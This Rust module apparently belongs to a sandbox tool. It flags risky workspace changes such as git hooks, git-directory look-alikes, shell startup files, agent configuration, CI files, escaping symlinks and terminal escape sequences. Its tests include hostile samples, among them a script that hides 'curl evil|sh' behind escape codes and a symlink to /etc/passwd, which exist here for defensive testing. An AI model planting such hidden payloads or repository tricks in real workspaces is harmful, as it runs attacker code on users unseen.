//! Changes that can run code or open a hole the next time a person or a tool touches the
//! workspace, so `apply` writes them only when they are named (and some never).

use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::ffi::OsStr;
use std::path::{Component, Path, PathBuf};

use serde::Serialize;

use crate::node::{Kind, Node};
use crate::scan::Change;

/// Why a change needs a person's explicit yes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Hazard {
    /// `.git/hooks/*`: runs on the next commit, checkout, push.
    GitHook,
    /// Anything else git reads as a repository: all of a `.git` directory (config, `commondir`,
    /// `worktrees/`, `modules/`, `info/`, …) or a `.git` file pointing elsewhere, at any depth and
    /// under any name git takes for `.git`; a directory laid out as a git directory (`HEAD`,
    /// `config`, `objects`); `.gitmodules`, `.gitattributes`. They can name programs git runs
    /// (core.fsmonitor, core.sshCommand, filter drivers, submodule URLs), and `git status`
    /// shows none of it.
    GitConfig,
    /// `.envrc`, shell rc and profile files: run by the next shell or direnv.
    ShellStartup,
    /// Editor and agent configuration that runs commands or instructs the next agent
    /// (`.vscode/tasks.json`, `.claude/`, `.codex/`, `AGENTS.md`, …).
    EditorOrAgentConfig,
    /// CI pipelines: run with the repository's secrets on the next push.
    CiWorkflow,
    /// airlock's own configuration.
    AirlockConfig,
    /// setuid or setgid bits: never written.
    SetId,
    /// A device node: never written.
    Device,
    /// A fifo or a socket.
    Special,
    /// A symlink whose target leaves the workspace (absolute, or climbing out with `..`).
    SymlinkOutside,
    /// Larger than the size limit.
    Large,
    /// A name that deceives a reader or breaks tools: control characters, a leading `-`, bytes
    /// that are not UTF-8, bidirectional or invisible characters.
    DeceptiveName,
    /// Text whose content drives a terminal (escape sequences, a carriage return that rewrites
    /// its line, other control characters): shown raw, it can hide lines from the person
    /// reviewing the diff.
    TerminalControl,
    /// A file or directory that becomes writable by the group or by everyone: anyone else on the
    /// host could then change what the next build, commit or shell runs.
    LooseMode,
}

impl Hazard {
    /// Hazards `apply` refuses even when named.
    pub fn never_written(self) -> bool {
        matches!(self, Hazard::SetId | Hazard::Device)
    }

    pub fn describe(self) -> &'static str {
        match self {
            Hazard::GitHook => "git hook: runs on the next git command",
            Hazard::GitConfig => "git repository data or configuration: can make git run programs",
            Hazard::ShellStartup => "shell startup file: runs in the next shell",
            Hazard::EditorOrAgentConfig => {
                "editor or agent configuration: can run commands or instruct the next agent"
            }
            Hazard::CiWorkflow => "CI pipeline: runs with the repository's secrets",
            Hazard::AirlockConfig => "airlock configuration",
            Hazard::SetId => "setuid/setgid bit: never applied",
            Hazard::Device => "device node: never applied",
            Hazard::Special => "fifo or socket",
            Hazard::SymlinkOutside => "symlink pointing outside the workspace",
            Hazard::Large => "larger than the size limit",
            Hazard::DeceptiveName => {
                "name with control, invisible or bidirectional characters, a leading '-' or no valid UTF-8"
            }
            Hazard::LooseMode => "becomes writable by the group or by everyone",
            Hazard::TerminalControl => {
                "text with terminal control characters: can hide lines of the diff on a terminal"
            }
        }
    }
}

/// Shell and tool startup files, wherever they are in the tree.
const SHELL_STARTUP: &[&str] = &[
    ".envrc",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".kshrc",
    ".cshrc",
    ".tcshrc",
    ".inputrc",
    "config.fish",
];

/// Agent instruction and configuration files, wherever they are.
const AGENT_FILES: &[&str] = &[
    "AGENTS.md",
    "CLAUDE.md",
    "GEMINI.md",
    ".cursorrules",
    ".windsurfrules",
    ".mcp.json",
    "copilot-instructions.md",
];

/// Directories whose whole content configures an editor or agent.
const AGENT_DIRS: &[&str] = &[
    ".vscode",
    ".idea",
    ".claude",
    ".codex",
    ".cursor",
    ".windsurf",
    ".gemini",
    ".continue",
    ".devcontainer",
];

/// CI configuration: directories, then single files.
const CI_DIRS: &[&str] = &[".circleci", ".buildkite", ".gitea", ".forgejo"];
const CI_FILES: &[&str] = &[
    ".gitlab-ci.yml",
    ".travis.yml",
    "Jenkinsfile",
    "azure-pipelines.yml",
    ".drone.yml",
    "bitbucket-pipelines.yml",
    ".woodpecker.yml",
];

/// A name as a case-insensitive or HFS+ filesystem compares it: the code points HFS+ ignores
/// left out, lower case, trailing dots and spaces dropped (as Windows does). Hazard names are
/// matched in this form, so that `.ENVRC` or `.gitmodules.` is what it will be taken for there.
fn folded(name: &OsStr) -> Option<String> {
    let text = name.to_str()?;
    // NTFS: `NAME:STREAM` (`.git::$INDEX_ALLOCATION`) is NAME.
    let text = text.split(':').next().unwrap_or(text);
    let visible: String = text
        .chars()
        .filter(|c| !is_hfs_ignorable(*c))
        .collect::<String>()
        .to_lowercase();
    Some(visible.trim_end_matches(['.', ' ']).to_string())
}

/// Is `name`, folded, one of `list` (folded too)?
fn is_one_of(name: &OsStr, list: &[&str]) -> bool {
    folded(name).is_some_and(|name| list.iter().any(|entry| name == entry.to_lowercase()))
}

/// Characters no honest name needs: they hide, reorder or forge what a person reads. Controls,
/// Unicode's format characters (bidirectional marks and overrides, zero-width ones, the soft
/// hyphen, tags, variation selectors), blanks that show as nothing (Hangul fillers, the braille
/// blank) and spaces other than the plain one.
fn is_deceptive_char(c: char) -> bool {
    c.is_control()
        || is_hfs_ignorable(c)
        || matches!(c,
            '\u{00a0}' | '\u{00ad}' | '\u{034f}' | '\u{061c}' | '\u{115f}' | '\u{1160}'
            | '\u{1680}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
            | '\u{2000}'..='\u{200b}' | '\u{2028}' | '\u{2029}' | '\u{202f}'
            | '\u{205f}'..='\u{206f}' | '\u{2800}' | '\u{3000}' | '\u{3164}'
            | '\u{fe00}'..='\u{fe0f}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}'
            | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

/// A name that deceives a reader or breaks tools (see [`Hazard::DeceptiveName`]).
pub fn is_deceptive_name(name: &OsStr) -> bool {
    match name.to_str() {
        None => true,
        Some(text) => text.starts_with('-') || text.chars().any(is_deceptive_char),
    }
}

/// Does git take this name for `.git`? Its own rules for case-insensitive and NTFS/HFS+
/// filesystems are the floor (`core.protectNTFS`, `core.protectHFS`): any case, trailing dots and
/// spaces, the 8.3 short name `git~1`, and the code points HFS+ ignores anywhere in a name. A
/// workspace may be copied or shared to such a filesystem, or served to a client on one.
pub fn is_git_dir_name(name: &OsStr) -> bool {
    is_one_of(name, &[".git", "git~1"])
}

/// NTFS 8.3 short names git treats as `.gitmodules` (git's `is_ntfs_dotgitmodules`): `gitmod~N`
/// and the hashed `gi7eba~N`.
fn is_gitmodules_short_name(name: &OsStr) -> bool {
    folded(name).is_some_and(|name| {
        ["gitmod~", "gi7eba~"].iter().any(|stem| {
            name.strip_prefix(stem)
                .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
        })
    })
}

/// Code points HFS+ leaves out when it compares names (git's `is_hfs_dotgit` list).
fn is_hfs_ignorable(c: char) -> bool {
    matches!(c,
        '\u{200c}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{206a}'..='\u{206f}' | '\u{feff}')
}

fn names(path: &Path) -> Vec<&OsStr> {
    path.components()
        .filter_map(|c| match c {
            Component::Normal(name) => Some(name),
            _ => None,
        })
        .collect()
}

/// Hazards of a path, from its name alone.
pub fn path_hazards(path: &Path) -> Vec<Hazard> {
    let parts = names(path);
    let mut found = Vec::new();
    let Some(last) = parts.last().copied() else {
        return found;
    };
    let has_pair = |a: &str, b: &str| {
        parts
            .windows(2)
            .any(|w| is_one_of(w[0], &[a]) && is_one_of(w[1], &[b]))
    };
    let in_dir = |dirs: &[&str]| parts[..parts.len() - 1].iter().any(|p| is_one_of(p, dirs));
    if parts.iter().any(|name| is_deceptive_name(name)) {
        found.push(Hazard::DeceptiveName);
    }
    let git_dir_at = parts.iter().position(|name| is_git_dir_name(name));
    match git_dir_at {
        Some(at)
            if parts
                .get(at + 1)
                .is_some_and(|next| is_one_of(next, &["hooks"])) =>
        {
            found.push(Hazard::GitHook)
        }
        Some(_) => found.push(Hazard::GitConfig),
        None if is_one_of(last, &[".gitmodules", ".gitattributes"])
            || is_gitmodules_short_name(last) =>
        {
            found.push(Hazard::GitConfig)
        }
        None => {}
    }
    if is_one_of(last, SHELL_STARTUP) {
        found.push(Hazard::ShellStartup);
    }
    if is_one_of(last, AGENT_FILES) || in_dir(AGENT_DIRS) || is_one_of(last, AGENT_DIRS) {
        found.push(Hazard::EditorOrAgentConfig);
    }
    if has_pair(".github", "workflows")
        || in_dir(CI_DIRS)
        || is_one_of(last, CI_DIRS)
        || is_one_of(last, CI_FILES)
    {
        found.push(Hazard::CiWorkflow);
    }
    if parts.iter().any(|p| is_one_of(p, &[".airlock"])) || has_pair("airlock", "profiles") {
        found.push(Hazard::AirlockConfig);
    }
    found
}

/// Does a symlink at `path` (relative to the workspace) with `target` point outside it?
pub fn symlink_leaves(path: &Path, target: &OsStr) -> bool {
    let target = Path::new(target);
    if target.is_absolute() {
        return true;
    }
    // Depth of the link's directory below the workspace root, then walk the target.
    let mut depth = names(path).len() as i64 - 1;
    for component in target.components() {
        match component {
            Component::ParentDir => {
                depth -= 1;
                if depth < 0 {
                    return true;
                }
            }
            Component::Normal(_) => depth += 1,
            _ => {}
        }
    }
    false
}

/// The tree a session leads to (its layer over the host workspace), for the hazards a change has
/// there rather than in its name: it lies in a directory laid out as a git directory (`HEAD` and
/// `config` files and an `objects` directory, which git takes for a repository, a bare one or
/// the one a `.git` file names, whatever its name: it reads its config and runs its hooks), or
/// its text drives a terminal. Answers about directories are kept: a change set asks about the
/// same ones many times.
pub struct Tree<'a> {
    layer: &'a Path,
    host: &'a Path,
    /// Directories that are git directories themselves.
    git_dirs: RefCell<HashMap<PathBuf, bool>>,
    /// Directories that are, or lie in, a git directory.
    within: RefCell<HashMap<PathBuf, bool>>,
    /// Directories of the layer reached without a symlink on the way.
    plain: RefCell<HashMap<PathBuf, bool>>,
    /// Directories a `commondir` file of the change set names: git reads their config too.
    common_dirs: HashSet<PathBuf>,
}

/// The most of a `commondir` file read: a path.
const COMMONDIR_BYTES: u64 = 4096;

impl<'a> Tree<'a> {
    /// The tree `changes` (of `layer` over `host`) lead to.
    pub fn new(layer: &'a Path, host: &'a Path, changes: &[Change]) -> Tree<'a> {
        let mut tree = Tree {
            layer,
            host,
            git_dirs: RefCell::default(),
            within: RefCell::default(),
            plain: RefCell::default(),
            common_dirs: HashSet::new(),
        };
        tree.common_dirs = changes
            .iter()
            .filter(|c| {
                c.path
                    .file_name()
                    .is_some_and(|n| is_one_of(n, &["commondir"]))
            })
            .filter_map(|c| tree.named_by_commondir(&c.path))
            .collect();
        tree
    }

    /// The workspace directory a `commondir` file at `path` names, when it names one by a
    /// relative path that stays in the workspace.
    fn named_by_commondir(&self, path: &Path) -> Option<PathBuf> {
        let dir = path.parent()?;
        if !self.is_plain(dir) {
            return None;
        }
        let file = crate::node::open_regular(&self.layer.join(path)).ok()?;
        let mut text = String::new();
        std::io::Read::read_to_string(&mut std::io::Read::take(file, COMMONDIR_BYTES), &mut text)
            .ok()?;
        let named = Path::new(text.trim_end_matches(['\n', '\r']));
        if named.is_absolute() {
            return None;
        }
        let mut target = PathBuf::new();
        for component in dir.join(named).components() {
            match component {
                Component::Normal(name) => target.push(name),
                Component::ParentDir if !target.pop() => return None,
                _ => {}
            }
        }
        Some(target)
    }

    /// Is the file the session made at `path` text that drives a terminal? Binary files (a NUL in
    /// the first 8000 bytes, as git decides) are shown by a patch as binary, not raw.
    pub fn drives_a_terminal(&self, path: &Path) -> bool {
        let Ok(mut file) = crate::node::open_regular(&self.layer.join(path)) else {
            return false;
        };
        let mut data = Vec::new();
        if std::io::Read::read_to_end(&mut file, &mut data).is_err() {
            return false;
        }
        let head = &data[..data.len().min(8000)];
        !head.contains(&0) && has_terminal_controls(&data)
    }

    /// Does `path` (relative to the workspace) lie in, or is it, a git directory? The workspace
    /// itself counts too: made into one, git would take it for a bare repository. Each
    /// directory is judged once, however deep the tree.
    pub fn contains(&self, path: &Path) -> bool {
        // The nearest ancestor already judged, then those below it, top down.
        let mut unjudged = Vec::new();
        let mut answer = false;
        for dir in path.ancestors() {
            if let Some(known) = self.within.borrow().get(dir) {
                answer = *known;
                break;
            }
            unjudged.push(dir);
        }
        for dir in unjudged.into_iter().rev() {
            answer = answer || self.is_git_dir(dir);
            self.within.borrow_mut().insert(dir.to_path_buf(), answer);
        }
        answer
    }

    /// git's own test (`is_git_directory`), taken broadly: a `HEAD` of any kind (a symlink to a
    /// ref is one) with an `objects` of any kind (a symlink, even to `.`), or any directory with
    /// a `commondir` or `gitdir` file (a linked worktree's, whose objects and config live where
    /// it points); and every directory a `commondir` of the change set names. A `config` is not
    /// needed: git reads one where there is one.
    fn is_git_dir(&self, dir: &Path) -> bool {
        if let Some(known) = self.git_dirs.borrow().get(dir) {
            return *known;
        }
        let has = |name: &str| self.kind_of(&dir.join(name)).is_some();
        let linked = has("commondir") || has("gitdir");
        let answer = self.common_dirs.contains(dir) || linked || has("HEAD") && has("objects");
        self.git_dirs.borrow_mut().insert(dir.to_path_buf(), answer);
        answer
    }

    /// Is the layer's `dir` reached from the layer's root without a symlink? SECURITY: the layer
    /// is the sandbox's writing: no symlink of it is followed. Each directory is looked at once.
    fn is_plain(&self, dir: &Path) -> bool {
        let mut unjudged = Vec::new();
        let mut answer = true;
        for ancestor in dir.ancestors() {
            if ancestor.as_os_str().is_empty() {
                break;
            }
            if let Some(known) = self.plain.borrow().get(ancestor) {
                answer = *known;
                break;
            }
            unjudged.push(ancestor);
        }
        for ancestor in unjudged.into_iter().rev() {
            answer = answer
                && !std::fs::symlink_metadata(self.layer.join(ancestor))
                    .is_ok_and(|meta| meta.file_type().is_symlink());
            self.plain
                .borrow_mut()
                .insert(ancestor.to_path_buf(), answer);
        }
        answer
    }

    /// What is at `path` in the tree the session leads to: the layer's entry (a whiteout is
    /// nothing), else the host's. An opaque directory of the layer is not looked through: at
    /// worst a host entry it hides counts, which only ever adds a hazard.
    fn kind_of(&self, path: &Path) -> Option<Kind> {
        use std::os::unix::fs::{FileTypeExt, MetadataExt};
        let kind = |meta: std::fs::Metadata| {
            let kind = meta.file_type();
            if kind.is_dir() {
                Kind::Dir
            } else if kind.is_file() {
                Kind::File
            } else {
                Kind::Symlink
            }
        };
        if !self.is_plain(path.parent().unwrap_or(Path::new(""))) {
            return None;
        }
        match std::fs::symlink_metadata(self.layer.join(path)) {
            Ok(meta) if meta.file_type().is_char_device() && meta.rdev() == 0 => None,
            Ok(meta) => Some(kind(meta)),
            Err(_) => std::fs::symlink_metadata(self.host.join(path))
                .ok()
                .map(kind),
        }
    }
}

/// Control characters in text that a terminal acts on: ESC and the other C0 controls but tab,
/// newline and form feed; a carriage return not followed by a newline (it rewrites its line);
/// DEL; the C1 controls (CSI is U+009B), as UTF-8 and, in text that is not UTF-8, as the single
/// bytes a terminal in 8-bit mode takes them for.
pub fn has_terminal_controls(data: &[u8]) -> bool {
    let c0 = data.iter().enumerate().any(|(i, &b)| match b {
        b'\t' | b'\n' | 0x0c => false,
        b'\r' => data.get(i + 1) != Some(&b'\n'),
        0x00..=0x1f | 0x7f => true,
        _ => false,
    });
    let c1 = match std::str::from_utf8(data) {
        Ok(text) => text.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
        Err(_) => data.iter().any(|b| (0x80..=0x9f).contains(b)),
    };
    c0 || c1
}

/// Every hazard of one change in the tree its session leads to: [`hazards`], whether it lies in
/// a directory laid out as a git directory, and whether its text drives a terminal.
pub fn hazards_in(change: &Change, size_limit: u64, tree: &Tree) -> Vec<Hazard> {
    let mut found = hazards(change, size_limit);
    let git = found.contains(&Hazard::GitConfig) || found.contains(&Hazard::GitHook);
    if !git && tree.contains(&change.path) {
        found.push(Hazard::GitConfig);
    }
    let text = change
        .new
        .as_ref()
        .is_some_and(|n| n.kind == Kind::File && n.size <= size_limit);
    if text && tree.drives_a_terminal(&change.path) {
        found.push(Hazard::TerminalControl);
    }
    found.sort();
    found
}

/// Every hazard of one change, judged on the session's side (what would be written), by its
/// name and what it is.
pub fn hazards(change: &Change, size_limit: u64) -> Vec<Hazard> {
    let mut found = path_hazards(&change.path);
    if let Some(new) = &change.new {
        found.extend(node_hazards(&change.path, new, size_limit));
        if becomes_writable_by_others(change.old.as_ref(), new) {
            found.push(Hazard::LooseMode);
        }
        let target = new.target.as_ref().map(|t| t.as_encoded_bytes());
        if new.kind == Kind::Symlink && target.is_some_and(has_terminal_controls) {
            found.push(Hazard::TerminalControl);
        }
    }
    found.sort();
    found.dedup();
    found
}

/// Group or world write bits the host's entry did not have (all of them, for a new entry).
/// Symlinks' modes mean nothing.
fn becomes_writable_by_others(old: Option<&Node>, new: &Node) -> bool {
    const OTHERS_WRITE: u32 = 0o022;
    let before = old.filter(|o| o.kind == new.kind).map_or(0, |o| o.mode);
    new.kind != Kind::Symlink && new.mode & OTHERS_WRITE & !before != 0
}

fn node_hazards(path: &Path, node: &Node, size_limit: u64) -> Vec<Hazard> {
    let mut found = Vec::new();
    if node.mode & 0o6000 != 0 {
        found.push(Hazard::SetId);
    }
    match node.kind {
        Kind::CharDevice | Kind::BlockDevice => found.push(Hazard::Device),
        Kind::Fifo | Kind::Socket => found.push(Hazard::Special),
        Kind::Symlink
            if node
                .target
                .as_deref()
                .is_some_and(|target| symlink_leaves(path, target)) =>
        {
            found.push(Hazard::SymlinkOutside)
        }
        Kind::File if node.size > size_limit => found.push(Hazard::Large),
        _ => {}
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::ffi::OsStrExt;

    fn of(path: &str) -> Vec<Hazard> {
        path_hazards(Path::new(path))
    }

    #[test]
    fn names_that_run_code() {
        assert_eq!(of(".git/hooks/pre-commit"), vec![Hazard::GitHook]);
        assert_eq!(
            of("vendor/lib/.git/hooks/post-checkout"),
            vec![Hazard::GitHook]
        );
        assert_eq!(of(".git/config"), vec![Hazard::GitConfig]);
        assert_eq!(of("sub/.gitattributes"), vec![Hazard::GitConfig]);
        assert_eq!(of(".gitmodules"), vec![Hazard::GitConfig]);
        assert_eq!(of(".envrc"), vec![Hazard::ShellStartup]);
        assert_eq!(of("home/.bashrc"), vec![Hazard::ShellStartup]);
        assert_eq!(of(".vscode/tasks.json"), vec![Hazard::EditorOrAgentConfig]);
        assert_eq!(
            of(".claude/settings.json"),
            vec![Hazard::EditorOrAgentConfig]
        );
        assert_eq!(of(".codex"), vec![Hazard::EditorOrAgentConfig]);
        assert_eq!(of("AGENTS.md"), vec![Hazard::EditorOrAgentConfig]);
        assert_eq!(of(".github/workflows/ci.yml"), vec![Hazard::CiWorkflow]);
        assert_eq!(of(".gitlab-ci.yml"), vec![Hazard::CiWorkflow]);
        assert_eq!(of(".airlock/x.toml"), vec![Hazard::AirlockConfig]);
    }

    #[test]
    fn all_of_a_git_directory_is_a_hazard_under_any_name_git_takes_for_it() {
        for path in [
            ".git",
            ".git/HEAD",
            ".git/commondir",
            ".git/config.worktree",
            ".git/worktrees/w/config.worktree",
            ".git/modules/m/config",
            ".git/info/exclude",
            ".git/objects/ab/cdef",
            "sub/.git",
            "vendor/lib/.git/config",
            ".GIT/config",
            ".Git/config",
            ".git./config",
            ".git  /config",
            "git~1/config",
            "GIT~1/config",
            ".g\u{200c}it/config",
            "\u{feff}.git/config",
        ] {
            let found = of(path);
            // Invisible characters are deceptive besides.
            let expected = match path.chars().any(is_hfs_ignorable) {
                true => vec![Hazard::DeceptiveName, Hazard::GitConfig],
                false => vec![Hazard::GitConfig],
            };
            assert_eq!(found, expected, "{path}");
        }
        assert_eq!(
            of(".git/modules/m/hooks/post-checkout"),
            vec![Hazard::GitConfig]
        );
        assert_eq!(of(".GIT/hooks/pre-commit"), vec![Hazard::GitHook]);
        assert_eq!(of("sub/.git/hooks"), vec![Hazard::GitHook]);
    }

    #[test]
    fn a_directory_laid_out_as_a_git_directory_is_one_whatever_its_name() {
        let layer = tempfile::tempdir().unwrap();
        let host = tempfile::tempdir().unwrap();
        // In the layer: a bare repository under an innocent name.
        std::fs::create_dir_all(layer.path().join("evil/objects")).unwrap();
        std::fs::write(layer.path().join("evil/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(layer.path().join("evil/config"), "[core]\n").unwrap();
        // Partly on the host: HEAD and objects there, config from the layer.
        std::fs::create_dir_all(host.path().join("split/objects")).unwrap();
        std::fs::write(host.path().join("split/HEAD"), "x").unwrap();
        std::fs::create_dir_all(layer.path().join("split")).unwrap();
        std::fs::write(layer.path().join("split/config"), "[core]\n").unwrap();
        // Not one: no objects.
        std::fs::create_dir_all(layer.path().join("notes")).unwrap();
        std::fs::write(layer.path().join("notes/HEAD"), "x").unwrap();
        std::fs::write(layer.path().join("notes/config"), "x").unwrap();
        let dirs = Tree::new(layer.path(), host.path(), &[]);
        assert!(dirs.contains(Path::new("evil/config")));
        assert!(dirs.contains(Path::new("evil/hooks/post-checkout")));
        assert!(dirs.contains(Path::new("evil")));
        assert!(dirs.contains(Path::new("split/config")));
        assert!(!dirs.contains(Path::new("notes/config")));
        assert!(!dirs.contains(Path::new("src/main.rs")));
        // The workspace made into one.
        std::fs::create_dir_all(layer.path().join("objects")).unwrap();
        std::fs::write(layer.path().join("HEAD"), "x").unwrap();
        std::fs::write(layer.path().join("config"), "x").unwrap();
        let dirs = Tree::new(layer.path(), host.path(), &[]);
        assert!(dirs.contains(Path::new("src/main.rs")));
        // A symlink of the layer is not followed: what it leads to is not the tree's.
        let elsewhere = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(elsewhere.path().join("objects")).unwrap();
        std::fs::write(elsewhere.path().join("HEAD"), "x").unwrap();
        std::fs::write(elsewhere.path().join("config"), "x").unwrap();
        let layer = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(elsewhere.path(), layer.path().join("link")).unwrap();
        let dirs = Tree::new(layer.path(), host.path(), &[]);
        assert!(!dirs.contains(Path::new("link/config")));
    }

    #[test]
    fn git_takes_more_layouts_for_a_git_directory() {
        let layer = tempfile::tempdir().unwrap();
        let host = tempfile::tempdir().unwrap();
        let at = |p: &str| layer.path().join(p);
        // objects a symlink to the directory itself, HEAD a symlink, no config.
        std::fs::create_dir_all(at("src")).unwrap();
        std::fs::write(at("src/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::os::unix::fs::symlink(".", at("src/objects")).unwrap();
        std::fs::create_dir_all(at("lib/refs/heads")).unwrap();
        std::os::unix::fs::symlink("refs/heads/main", at("lib/HEAD")).unwrap();
        std::fs::create_dir_all(at("lib/objects")).unwrap();
        // A linked worktree's admin dir, and the common dir it names, which has no HEAD.
        std::fs::create_dir_all(at("wt")).unwrap();
        std::fs::write(at("wt/HEAD"), "x").unwrap();
        std::fs::write(at("wt/commondir"), "../share\n").unwrap();
        std::fs::create_dir_all(at("share")).unwrap();
        std::fs::write(at("share/config"), "[core]\n").unwrap();
        let change = |path: &str| Change {
            path: PathBuf::from(path),
            status: crate::scan::Status::Added,
            old: None,
            new: None,
        };
        let tree = Tree::new(
            layer.path(),
            host.path(),
            &[change("wt/commondir"), change("share/config")],
        );
        for path in [
            "src/config",
            "src/main.c",
            "lib/config",
            "wt/config.worktree",
            "share/config",
        ] {
            assert!(tree.contains(Path::new(path)), "{path}");
        }
        assert!(!tree.contains(Path::new("docs/readme.md")));
    }

    #[test]
    fn names_that_deceive_and_look_alikes_of_hazard_names() {
        for path in [
            "a\nb",
            "x/\x1b[2Jclear",
            "-rf",
            "docs/--force",
            "right\u{202e}txt.exe",
            "zero\u{200b}width",
            "n_\u{061c}.txt",
            "soft\u{00ad}hyphen",
            "tag\u{e0041}",
            "vs\u{fe0f}",
            "filler\u{3164}",
            "blank\u{2800}",
            "nbsp\u{00a0}",
            "narrow\u{202f}",
        ] {
            assert!(of(path).contains(&Hazard::DeceptiveName), "{path:?}");
        }
        let not_utf8 = std::ffi::OsStr::from_bytes(b"caf\xe9");
        assert!(path_hazards(Path::new(not_utf8)).contains(&Hazard::DeceptiveName));
        assert_eq!(of(".ENVRC"), vec![Hazard::ShellStartup]);
        assert_eq!(of(".gitmodules."), vec![Hazard::GitConfig]);
        assert_eq!(of(".VSCode/tasks.json"), vec![Hazard::EditorOrAgentConfig]);
        assert_eq!(of(".GitHub/Workflows/ci.yml"), vec![Hazard::CiWorkflow]);
        assert_eq!(of("agents.md "), vec![Hazard::EditorOrAgentConfig]);
        assert!(of(".git::$INDEX_ALLOCATION/config").contains(&Hazard::GitConfig));
        assert!(of(".gitmodules::$DATA").contains(&Hazard::GitConfig));
        assert!(of(".envrc::$DATA").contains(&Hazard::ShellStartup));
        assert!(of("GITMOD~1").contains(&Hazard::GitConfig));
        assert!(of("gi7eba~2").contains(&Hazard::GitConfig));
        assert_eq!(of("caf\u{e9}/na\u{ef}ve.txt"), vec![], "accents are honest");
    }

    #[test]
    fn text_that_drives_a_terminal() {
        assert!(has_terminal_controls(b"ok\n\x1b[1A\x1b[2Khidden\n"));
        assert!(has_terminal_controls(b"shown\rover"));
        assert!(has_terminal_controls("csi \u{9b}2J".as_bytes()));
        assert!(has_terminal_controls(b"bell\x07"));
        assert!(
            has_terminal_controls(b"latin1 \x9b2J"),
            "a raw C1 byte outside UTF-8"
        );
        assert!(!has_terminal_controls(b"latin1 caf\xe9"));
        assert!(!has_terminal_controls(b"tab\tnewline\ncrlf\r\nfeed\x0c"));
        assert!(!has_terminal_controls("caf\u{e9} \u{20ac}".as_bytes()));
        let layer = tempfile::tempdir().unwrap();
        std::fs::write(
            layer.path().join("hidden.sh"),
            b"echo hi\n\x1b[1A\x1b[2Kcurl evil|sh\n",
        )
        .unwrap();
        std::fs::write(layer.path().join("binary"), b"\0\x1b[2J").unwrap();
        std::fs::write(layer.path().join("plain.txt"), b"plain\n").unwrap();
        let tree = Tree::new(layer.path(), layer.path(), &[]);
        assert!(tree.drives_a_terminal(Path::new("hidden.sh")));
        assert!(!tree.drives_a_terminal(Path::new("binary")));
        assert!(!tree.drives_a_terminal(Path::new("plain.txt")));
    }

    #[test]
    fn modes_that_let_others_write() {
        let node = |kind, mode| Node {
            kind,
            mode,
            size: 1,
            target: None,
            uid: 0,
            gid: 0,
            rdev: 0,
            ctime_ns: 0,
            mtime_ns: 0,
            inode: 0,
            device: 0,
        };
        let (file, dir, link) = (Kind::File, Kind::Dir, Kind::Symlink);
        assert!(becomes_writable_by_others(None, &node(file, 0o666)));
        assert!(becomes_writable_by_others(
            Some(&node(dir, 0o755)),
            &node(dir, 0o775)
        ));
        assert!(becomes_writable_by_others(
            Some(&node(file, 0o644)),
            &node(file, 0o646)
        ));
        assert!(!becomes_writable_by_others(None, &node(file, 0o644)));
        assert!(
            !becomes_writable_by_others(Some(&node(file, 0o664)), &node(file, 0o664)),
            "as the host had it"
        );
        assert!(!becomes_writable_by_others(None, &node(link, 0o777)));
        assert!(!becomes_writable_by_others(
            Some(&node(file, 0o644)),
            &node(file, 0o755)
        ));
    }

    #[test]
    fn ordinary_names_are_not_hazards() {
        for path in [
            "src/main.rs",
            ".gitignore",
            "docs/git/hooks.md",
            "hooks/pre-commit",
            ".github/CODEOWNERS",
            "config",
            "my.bashrc.bak",
            ".gitkeep",
            ".github/dependabot.yml",
            "git/config",
            ".git-credentials.md",
            "a.git/config",
        ] {
            assert_eq!(of(path), vec![], "{path}");
        }
    }

    #[test]
    fn symlinks_leaving_the_workspace() {
        let leaves = |path: &str, target: &str| symlink_leaves(Path::new(path), OsStr::new(target));
        assert!(leaves("link", "/etc/passwd"));
        assert!(leaves("link", "../outside"));
        assert!(leaves("a/link", "../../outside"));
        assert!(leaves("a/link", "b/../../../x"));
        assert!(!leaves("a/link", "../inside"));
        assert!(!leaves("link", "a/b/../c"));
        assert!(!leaves("link", "."));
    }
}
